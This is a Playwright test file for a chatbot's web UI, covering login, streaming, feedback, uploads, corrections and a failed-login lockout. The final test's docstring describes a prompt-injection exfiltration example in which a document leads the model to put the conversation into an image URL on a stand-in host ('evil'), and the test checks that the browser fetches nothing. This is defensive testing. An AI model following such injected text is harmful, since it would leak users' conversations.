"""The real web UI in Chromium: `chatbot serve` in a subprocess behind a login, driven with
Playwright.

Needs Debian's chromium at /usr/bin/chromium (./dev.sh test installs it).
"""

import os
import re
import sqlite3
from contextlib import contextmanager

import pytest
import yaml

from chatbot.config_file import load_config
from app.build import bot_index
from chatbot.indexing import sync_paths
from serving import CHROMIUM, CHROMIUM_ARGS, chatbot_serve

pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(not os.path.exists(CHROMIUM),
                                 reason="chromium missing: apt-get install chromium")]

# Counts the distinct texts the last answer bubble shows while it streams.
WATCH_STREAM = """() => {
  window.seenTexts = new Set();
  new MutationObserver(() => {
    const bots = document.querySelectorAll('#cb-chat [data-testid="bot"]');
    if (bots.length) window.seenTexts.add(bots[bots.length - 1].innerText.trim());
  }).observe(document.querySelector('#cb-chat'),
             {subtree: true, childList: true, characterData: true});
}"""


@contextmanager
def logged_in_page(url: str):
    """A Chromium page on the served UI, logged in as the fixture's user."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.goto(url)
            page.get_by_label("username").fill("ana")
            page.get_by_label("password").fill("a passphrase")
            page.keyboard.press("Enter")
            yield page
        finally:
            browser.close()


@pytest.fixture
def served(tmp_path, tiny_model_dir, isolated_state):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "indexing.md").write_text("# Indexing\n\nRun chatbot index sync to index docs.\n")
    (docs / "feedback.md").write_text("# Feedback\n\nThumbs up or down on every answer.\n")
    config_path = tmp_path / "bot.yaml"
    config_path.write_text(yaml.safe_dump({
        "name": "browser-bot", "models": {"chat": str(tiny_model_dir), "embedder": "hash:64"},
        "generation": {"max_new_tokens": 40, "repetition_penalty": 2.0},
        "index": {"paths": [str(docs)]}}))
    sync_paths(bot_index(load_config(config_path)))
    login = {"CHATBOT_USER": "ana", "CHATBOT_PASSWORD": "a passphrase"}
    with chatbot_serve(config_path, env=login) as (url, _):
        yield f"{url}/", isolated_state / "logs.sqlite"


def test_browser_logs_in_chats_streams_shows_sources_logs_thumbs_up_and_uploads(served) -> None:
    from playwright.sync_api import expect

    url, log_path = served
    upload = log_path.parent.parent / "pets.md"
    upload.write_text("# Pets\n\nCats sleep sixteen hours a day.\n")
    with logged_in_page(url) as page:
        expect(page.locator("#cb-chat")).to_be_visible(timeout=30_000)
        page.evaluate(WATCH_STREAM)
        box = page.locator("#cb-message textarea")
        box.fill("How do I index my documents?")
        box.press("Enter")
        expect(page.locator("#cb-sources .cb-source").first).to_be_visible(timeout=30_000)
        expect(page.locator("#cb-sources")).to_contain_text("indexing.md")
        marks = '#cb-chat [data-testid="bot"] :is(.cb-unsupported, a.cb-support-link)'
        expect(page.locator(marks).first).to_be_attached()  # kept by the page's sanitizer
        expect(page.locator("#cb-sources .cb-legend")).to_contain_text("supported")
        assert page.evaluate("window.seenTexts.size") >= 2  # it grew before it ended
        page.get_by_label("Like", exact=True).first.click()
        expect(page.locator("#cb-comment")).to_be_visible(timeout=10_000)
        expect(page.get_by_label("Liked", exact=True)).to_have_count(1)  # the rating is in
        box.fill("And how do I search them?")  # the chat is drawn again with a new answer
        box.press("Enter")
        expect(page.locator('#cb-chat [data-testid="bot"]')).to_have_count(2, timeout=60_000)
        expect(page.locator("#cb-comment")).to_be_hidden()  # it was about the first answer
        expect(page.locator("#cb-sources .cb-source").first).to_be_visible(timeout=60_000)
        expect(page.get_by_label("Liked", exact=True)).to_have_count(1)  # still lit
        page.get_by_role("tab", name="Documents").click()
        page.locator("#cb-upload input[type=file]").set_input_files(str(upload))
        expect(page.locator("#cb-upload-status")).to_contain_text(
            "Indexed 1 of 1 file: 1 added", timeout=30_000)
        expect(page.locator("#cb-documents")).to_contain_text("uploads/pets.md")
        page.get_by_role("tab", name="Chat").click()
        page.get_by_label("Dislike", exact=True).first.click()  # the page was loaded before
        expect(page.locator("#cb-comment")).to_be_visible(timeout=10_000)
        page.get_by_role("tab", name="Review").click()  # opening the tab lists it at once
        expect(page.locator("#cb-review-table")).to_contain_text("How do I index my",
                                                                 timeout=10_000)
        page.locator("#cb-review-pick input").click()  # the second listed answer, picked
        page.get_by_role("option", name=re.compile("search them")).click()
        expect(page.locator("#cb-review-question")).to_contain_text("And how do I search them?")
        typed = "Run chatbot index sync docs/."
        page.locator("#cb-review-correction textarea").fill(typed)
        page.get_by_role("tab", name="Chat").click()
        with page.expect_request(lambda r: "queue/join" in r.url):
            page.get_by_role("tab", name="Review").click()  # lists anew, keeps what was typed
        page.wait_for_timeout(1000)  # the tab's new list has come
        expect(page.locator("#cb-review-question")).to_contain_text("And how do I search them?")
        expect(page.locator("#cb-review-correction textarea")).to_have_value(typed)
        with page.expect_request(lambda r: "queue/join" in r.url):
            page.locator("#cb-review-pick input").click()  # opened and left: the picker's
            page.keyboard.press("Tab")                     # blur sends the same pick again
        page.wait_for_timeout(1000)
        expect(page.locator("#cb-review-correction textarea")).to_have_value(typed)
        joins = []
        page.on("request", lambda r: joins.append(r) if "queue/join" in r.url else None)
        page.locator("#cb-review-save").click()  # one event: no second, racing the stream
        expect(page.locator("#cb-review-table")).not_to_contain_text("search them",
                                                                     timeout=10_000)
        expect(page.locator("#cb-review-question")).to_contain_text("How do I index my")
        page.wait_for_timeout(1000)
        assert len(joins) == 1, [r.post_data for r in joins]
    rows = sqlite3.connect(log_path).execute(
        "SELECT f.rating, t.role, t.status, t.session_id FROM feedback f "
        "JOIN turns t ON t.id = f.turn_id").fetchall()
    assert len(rows) == 2 and rows[-1][:3] == (-1, "assistant", "complete")
    assert rows[0][3].startswith("web-")


def test_browser_edits_an_answer_into_a_correction_kept_beside_the_original(served,
                                                                           tmp_path) -> None:
    from dataclasses import replace

    from playwright.sync_api import expect

    from app.build import data_settings
    from training.data.build import build_dataset
    from training.data.dataset import load_examples

    url, log_path = served
    fixed = "Run `chatbot index sync` to index the docs folder."
    with logged_in_page(url) as page:
        box = page.locator("#cb-message textarea")
        box.fill("How do I index my documents?")
        box.press("Enter")
        expect(page.locator("#cb-sources .cb-source").first).to_be_visible(timeout=30_000)
        page.locator('#cb-chat [data-testid="bot"]').first.hover()
        page.locator('#cb-chat .message-buttons-left [aria-label="Edit"]').first.click()
        editor = page.locator("#cb-chat textarea.edit-textarea")
        expect(editor).not_to_have_value(re.compile("cb-unsupported"))  # plain text
        editor.fill(fixed)
        page.locator('#cb-chat [aria-label="Submit"]').click()
        expect(page.locator('#cb-chat [data-testid="bot"]').first).to_have_text(
            re.compile("to index the docs folder"), timeout=10_000)
    rows = sqlite3.connect(log_path).execute(
        "SELECT c.text, c.author, t.text, t.role FROM corrections c "
        "JOIN turns t ON t.id = c.turn_id").fetchall()
    assert len(rows) == 1 and rows[0][:2] == (fixed, "ana") and rows[0][3] == "assistant"
    assert rows[0][2] and rows[0][2] != fixed  # the answer as generated is kept
    settings = data_settings(load_config(tmp_path / "bot.yaml"))
    built = build_dataset(settings, "edited", ["logs"],
                          options=replace(settings.options, pii_ner_model=None))
    examples = load_examples(settings.datasets_root / "edited")
    assert built.corrected == 1
    assert [row["messages"][-1]["content"] for split in examples.values() for row in split] == [
        fixed]


def test_browser_tells_an_address_that_guessed_too_often_why_its_login_is_refused(served
                                                                                  ) -> None:
    """Gradio's form shows nothing for a refusal other than a wrong password."""
    import httpx
    from playwright.sync_api import expect

    from app.auth import MAX_FAILED_LOGINS

    url, _ = served
    for attempt in range(MAX_FAILED_LOGINS):
        httpx.post(f"{url}login", data={"username": "ana", "password": f"guess {attempt}"})
    with logged_in_page(url) as page:  # the right password, from the same address
        expect(page.locator("#cb-login-refused")).to_contain_text(
            "too many failed logins or wrong API keys from this address; try again in",
            timeout=30_000)
        expect(page.locator("#cb-chat")).to_have_count(0)


def test_an_image_in_a_message_fetches_nothing_from_another_server(served) -> None:
    """A question, an answer or a passage may hold an image of another server: drawn, it would
    make each reader's browser fetch its URL, so a document written to make the model put
    the conversation into one (`![](https://evil/?q=...)`) would send it away unseen."""
    from playwright.sync_api import expect

    from serving import QuietHandler, http_server

    fetched: list[str] = []

    class Pixel(QuietHandler):
        def do_GET(self) -> None:
            fetched.append(self.path)
            self.reply(200, b"GIF89a", "image/gif")

    url, _ = served
    with http_server(Pixel) as elsewhere, logged_in_page(url) as page:
        other = elsewhere.replace("127.0.0.1", "localhost").removesuffix("/v1")
        box = page.locator("#cb-message textarea")
        box.fill(f"How do I index ![a]({other}/markdown.gif) <img src='{other}/tag.gif'>?")
        box.press("Enter")
        expect(page.locator("#cb-sources .cb-source").first).to_be_visible(timeout=30_000)
        page.wait_for_timeout(1000)  # time for the browser to fetch what it would
    assert fetched == []
